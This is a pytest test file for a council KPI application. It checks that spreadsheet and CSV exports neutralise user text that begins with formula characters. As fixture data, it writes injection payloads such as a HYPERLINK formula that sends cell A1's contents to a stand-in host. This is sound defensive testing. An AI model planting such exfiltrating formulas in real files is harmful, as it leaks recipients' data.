"""Text people typed stays text in every spreadsheet and CSV we write (issue 11, item 3).

A title, commentary or target's words beginning with "=", "+", "-", "@", a tab or a carriage
return are what a spreadsheet program takes for a formula. Every text field that reaches an
export is made hostile here, the files are read back from their real bytes, and every cell of
every sheet is checked.
"""

import csv
import io
from datetime import date

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from kpis.models import (
    Benchmark,
    ChangeOfProcess,
    Commentary,
    Directorate,
    Indicator,
    Outturn,
    Portfolio,
    PublishedValue,
    Reading,
    Target,
)
from tests.database import empty_the_database

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# XML reads a carriage return back as a line feed, so a cell that began with one comes back so.
READ_BACK_DANGEROUS = (*DANGEROUS, "\n")


def hostile(n: int, what: str) -> str:
    """The n-th hostile text of a field; the first of every field is a live formula in openpyxl."""
    return f'{DANGEROUS[n % len(DANGEROUS)]}HYPERLINK("//x?"&A1,"{what} {n}")'


def make_everything_hostile() -> set[str]:
    """Every free-text field the exports read, made hostile; returns the texts written."""
    written = set()

    def put(objects, what, *fields, published=True):
        for n, obj in enumerate(objects):
            for field in fields:
                text = hostile(n, f"{what} {field}")
                setattr(obj, field, [text] if field == "aliases" else text)
                if published:
                    written.add(text)
            obj.save()

    # Short labels: a code and a benchmark's kind hold 40 characters.
    put(Indicator.objects.order_by("id"), "ind", "code", "title", "aliases", "definition", "owner")
    put(Portfolio.objects.order_by("id"), "pf", "name", "holder")
    put(Directorate.objects.order_by("id"), "dir", "name")
    put(Target.objects.order_by("id"), "target", "text")
    put(Outturn.objects.order_by("id"), "outturn", "text")
    put(Benchmark.objects.order_by("id"), "bm", "kind", "text")
    put(Commentary.objects.order_by("id"), "commentary", "text", published=False)  # drafts: never exported
    put(Reading.objects.order_by("id"), "submitted", "submitted_commentary", published=False)  # awaiting review
    put(Commentary.objects.order_by("id"), "commentary", "published_text")
    put(Reading.objects.filter(state=Reading.State.APPROVED).order_by("id"), "note", "note")
    put(PublishedValue.objects.filter(field="figure").order_by("id"), "published", "value")
    # A change of process's reason, in the contract's SpcPeriods sheet (months up to the quarter's end).
    for indicator in Indicator.objects.order_by("id")[:2]:
        ChangeOfProcess.objects.create(indicator=indicator, month=date(2016, 10, 1), reason="set below")
    put(ChangeOfProcess.objects.order_by("id"), "process", "reason")
    return written


@pytest.fixture
def hostile_council(imported_small_council):
    return make_everything_hostile()


def cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from ((sheet.title, cell) for cell in row)


def assert_every_text_cell_is_text(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet, cell in cells(workbook):
        assert cell.data_type != "f", f"{sheet}!{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str) and cell.value.startswith(READ_BACK_DANGEROUS):
            assert cell.data_type == "s" and cell.quotePrefix, f"{sheet}!{cell.coordinate} {cell.value!r}"
    return {cell.value for _, cell in cells(workbook) if isinstance(cell.value, str)}


def as_read_back(text: str) -> str:
    return text.replace("\r", "\n")


def test_no_cell_of_the_appendix_is_a_formula_whatever_was_typed(client, hostile_council):
    response = client.get("/scorecards/2016/q3/appendix.xlsx")
    assert response.status_code == 200
    texts = assert_every_text_cell_is_text(response.content)
    # Every hostile text reached the file (the contract sheets hold each as typed).
    assert {as_read_back(text) for text in hostile_council} <= texts
    appendix_1b = load_workbook(io.BytesIO(response.content))["Appendix 1b"]
    assert any(str(cell.value).startswith('=HYPERLINK("//x?"&A1,"commentary') for cell in appendix_1b["J"])


def test_no_cell_of_the_portfolio_table_is_a_formula_whatever_was_typed(client, hostile_council):
    portfolio = Portfolio.objects.get(slug="housing")
    response = client.get(f"/portfolios/{portfolio.slug}/table.xlsx?quarter=2016-Q3")
    assert response.status_code == 200
    texts = assert_every_text_cell_is_text(response.content)
    homes = Indicator.objects.get(portfolio=portfolio)
    assert homes.title in texts
    assert any(portfolio.name in text for text in texts)  # the heading names it, after the council


def test_the_portfolio_table_written_by_the_command_is_text_too(hostile_council, tmp_path):
    out = tmp_path / "portfolio.xlsx"
    call_command("export_appendix", "--year", "2016", "--quarter", "3", "--out", str(out),
                 "--portfolio", "housing", stdout=io.StringIO())
    assert_every_text_cell_is_text(out.read_bytes())


def test_hostile_looking_text_comes_back_from_the_appendix_as_the_same_text(imported_small_council, tmp_path):
    Commentary.objects.filter(indicator__code="POT").update(text="=1+1", published_text="=1+1")
    Indicator.objects.filter(code="SICK").update(title="=SUM(1, 2)", definition="-1 day is better", owner="@HR")
    Target.objects.filter(indicator__code="HOMES", period="year").update(text="+50 per month")
    exported = tmp_path / "appendix.xlsx"
    call_command("export_appendix", "--year", "2016", "--quarter", "3", "--out", str(exported), stdout=io.StringIO())
    empty_the_database()

    call_command("import_workbook", str(exported), stdout=io.StringIO())

    commentary = Commentary.objects.get(indicator__code="POT", year=2016, quarter=3)
    assert (commentary.text, commentary.published_text) == ("=1+1", "=1+1")
    sick = Indicator.objects.get(code="SICK")
    assert (sick.title, sick.definition, sick.owner) == ("=SUM(1, 2)", "-1 day is better", "@HR")
    assert Target.objects.get(indicator__code="HOMES", year=2016, period="year").text == "+50 per month"


def test_the_scorecard_csv_starts_no_field_with_a_formula_character(hostile_council):
    out = io.StringIO()
    call_command("scorecard", "--year", "2016", "--quarter", "3", "--format", "csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    fields = [field for row in rows for field in row]
    assert not [field for field in fields if field.startswith(DANGEROUS)]
    # Neutralised by a leading apostrophe (OWASP), the rest of the text as typed.
    title = Indicator.objects.get(code__endswith='"ind code 0")').title
    assert "'" + title in fields
    assert any(field.startswith("'\r") for field in fields)  # the csv module quotes it: the CR survives


def test_the_table_pages_csv_starts_no_field_with_a_formula_character(client, hostile_council):
    response = client.get("/scorecards/2016/q3/indicators.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    fields = [field for row in rows for field in row]
    assert len(rows) > 1 and not [field for field in fields if field.startswith(DANGEROUS)]
    title = Indicator.objects.get(code__endswith='"ind code 0")').title
    assert "'" + title in fields


def test_the_summary_csv_is_neutralised_too(hostile_council):
    out = io.StringIO()
    call_command("scorecard", "--year", "2016", "--quarter", "3", "--format", "csv", "--summary", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows and not [field for row in rows for field in row if field.startswith(DANGEROUS)]
